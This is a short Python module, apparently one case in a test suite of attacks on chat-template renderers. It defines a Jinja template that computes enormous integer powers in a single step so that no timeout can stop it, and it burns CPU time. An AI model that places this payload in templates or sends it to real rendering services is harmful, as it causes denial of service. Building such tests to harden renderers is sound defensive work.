"""A power takes for ever inside one instruction, where no interpreter looks at a clock."""

from __future__ import annotations

from attacks._model import hostile_template

ATTACK = hostile_template(
    "{{ (7 ** 9999999 * messages|length) % 10 }}{{ 3 ** (messages|length * 99999999) % 7 }}",
    says="more than 2 seconds of the CPU",
)

if __name__ == "__main__":
    ATTACK.main()
